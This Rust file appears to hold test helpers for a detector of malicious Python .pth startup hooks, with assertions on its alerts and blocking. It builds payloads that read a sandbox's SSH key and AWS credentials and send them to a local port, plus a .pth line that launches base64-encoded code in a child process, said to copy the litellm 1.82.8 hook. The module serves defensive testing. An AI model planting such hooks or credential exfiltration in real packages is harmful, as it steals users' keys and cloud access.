//! Payload building blocks shared by the detection tests: Python that reads the
//! sandbox's credentials, a litellm-style spawning `.pth` line, the payload's end
//! marker, and checks of what an alert says.
use std::{path::Path, time::Duration};

use serde_json::Value;

use crate::{Daemon, Sandbox, TcpSink, base64, real, wait_until};

/// Python that reads the sandbox's SSH key and AWS credentials into `blob` (bytes).
pub const READ_CREDENTIALS: &str = r#"
import os
home = os.path.expanduser("~")
blob = b""
for rel in (".ssh/id_ed25519", ".aws/credentials"):
    try:
        with open(os.path.join(home, rel), "rb") as f:
            blob += f.read()
    except OSError:
        pass
"#;

/// Python that sends `blob` to 127.0.0.1:`port` and records the outcome (`sent`, or
/// `error <errno>`) in the payload marker; `os`, `home` and `blob` must be set before it.
pub fn send_and_record(port: u16) -> String {
    format!(
        "
import socket
try:
    s = socket.create_connection(('127.0.0.1', {port}), timeout=5)
    s.sendall(blob)
    r = 'sent'
except OSError as e:
    r = 'error %d' % e.errno
with open(os.path.join(home, 'payload.done'), 'w') as f:
    f.write(r)
"
    )
}

/// The tests' exfiltrating payload: read the sandbox's credentials, send them to `port`,
/// record the outcome in the marker.
pub fn exfiltrate(port: u16) -> String {
    format!("{READ_CREDENTIALS}{}", send_and_record(port))
}

/// Starts one interpreter in the sandbox (its hooks run) and returns what the payload
/// recorded in its marker, cleared first.
pub fn run_hook_once(sb: &Sandbox) -> Option<String> {
    let _ = std::fs::remove_file(marker(sb));
    let (code, out) = sb.python(&["-c", "pass"]);
    assert_eq!(code, 0, "{out}");
    wait_marker(sb, Duration::from_secs(20))
}

/// A `.pth` line that starts `sys.executable -c "exec(base64.b64decode(...))"` the way the
/// litellm 1.82.8 hook did, once (the child inherits the guard).
pub fn spawning_pth_line(child_code: &str) -> String {
    format!(
        "import os, sys, subprocess, base64; os.environ.get('PTHW_CHILD') or subprocess.Popen([sys.executable, '-c', 'import base64; exec(base64.b64decode(\"{}\"))'], env=dict(os.environ, PTHW_CHILD='1'), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n",
        base64(child_code.as_bytes())
    )
}

/// The end marker a payload writes (its last step, with what its sender returned).
pub fn marker(sb: &Sandbox) -> std::path::PathBuf {
    sb.home.join("payload.done")
}

/// What a payload wrote to its marker, waiting up to `limit` for it.
pub fn wait_marker(sb: &Sandbox, limit: Duration) -> Option<String> {
    // The payload creates the file, then writes it: wait for the content.
    let path = marker(sb);
    wait_until(limit, || {
        std::fs::metadata(&path).is_ok_and(|m| m.len() > 0)
    });
    std::fs::read_to_string(path).ok()
}

/// Executable hooks the host already had before the test, as `pthwatch scan --json`
/// reports them (e.g. a CA injector installed by the machine's provisioning). Each may
/// raise its one `unknown_startup_hook` report; that is not about the test.
pub fn preexisting_suspect_hooks() -> Vec<String> {
    let out = std::process::Command::new(crate::pthwatch_bin())
        .args(["scan", "--json"])
        .output()
        .expect("run pthwatch scan");
    let report: Value = serde_json::from_slice(&out.stdout).expect("scan --json prints JSON");
    report["hooks"]
        .as_array()
        .expect("hooks")
        .iter()
        .filter(|h| h["class"] != "benign" && h["class"] != "inert")
        .filter_map(|h| h["path"].as_str().map(str::to_owned))
        .collect()
}

/// Alerts other than the host's own pre-existing hooks reporting themselves.
pub fn relevant<'a>(alerts: &'a [Value], host_hooks: &[String]) -> Vec<&'a Value> {
    alerts
        .iter()
        .filter(|a| {
            let hook_path = a["startup_hook"]["path"].as_str().unwrap_or("");
            !(a["rule"] == "unknown_startup_hook" && host_hooks.iter().any(|h| h == hook_path))
        })
        .collect()
}

pub fn strings(v: &Value) -> Vec<String> {
    v.as_array()
        .map(|a| {
            a.iter()
                .filter_map(|s| s.as_str().map(str::to_owned))
                .collect()
        })
        .unwrap_or_default()
}

/// Checks what the rule-1 alert says: the hook, its line, the files read, where to.
pub fn assert_exfil_alert(alert: &Value, sb: &Sandbox, pth: &Path, port: u16, action: &str) {
    assert_eq!(alert["severity"], "critical", "{alert:#}");
    assert_eq!(alert["action"], action, "{alert:#}");
    let hook = &alert["startup_hook"];
    assert_eq!(hook["kind"], "pth", "{alert:#}");
    assert_eq!(
        hook["path"].as_str(),
        Some(&*real(pth).to_string_lossy()),
        "{alert:#}"
    );
    assert_eq!(hook["sha256"].as_str().map(str::len), Some(64), "{alert:#}");
    assert!(
        hook["line"]
            .as_str()
            .is_some_and(|l| l.starts_with("import ")),
        "the alert must quote the executable line: {alert:#}"
    );
    let creds = strings(&alert["credentials"]);
    let home = real(&sb.home);
    for rel in [".ssh/id_ed25519", ".aws/credentials"] {
        let want = home.join(rel).to_string_lossy().into_owned();
        assert!(creds.contains(&want), "{want} missing from {creds:?}");
    }
    let dest = &alert["destination"];
    assert_eq!(dest["address"], "127.0.0.1", "{alert:#}");
    assert_eq!(dest["port"], port, "{alert:#}");
    assert!(!alert["host"].as_str().unwrap_or("").is_empty());
    assert!(alert["process"]["pid"].as_u64().is_some_and(|p| p > 0));
    assert!(
        alert["lineage"].as_array().is_some_and(|l| !l.is_empty()),
        "{alert:#}"
    );
}

pub fn exfil_alert(daemon: &Daemon) -> Option<Value> {
    daemon.wait_alert(Duration::from_secs(10), |a| {
        a["rule"] == "hook_credential_exfiltration"
    })
}

/// Ends a block-mode test of a hook whose payload sends the sandbox's credentials to
/// `sink`: waits up to `wait` for the payload's marker, stops the daemon, and asserts that
/// the send failed with EPERM (`why` otherwise), that no byte reached `sink`, and that the
/// exfiltration alert names the hook `pth`, blocked.
pub fn assert_hook_blocked(
    daemon: Daemon,
    sb: &Sandbox,
    pth: &Path,
    sink: &TcpSink,
    wait: Duration,
    why: &str,
) {
    let done = wait_marker(sb, wait);
    let alert = exfil_alert(&daemon);
    let alerts = daemon.stop();
    assert_eq!(done.as_deref(), Some("error 1"), "{why}");
    assert_eq!(sink.bytes(), 0);
    let alert = alert.unwrap_or_else(|| panic!("no exfiltration alert in {alerts:#?}"));
    assert_exfil_alert(&alert, sb, pth, sink.port, "blocked");
}
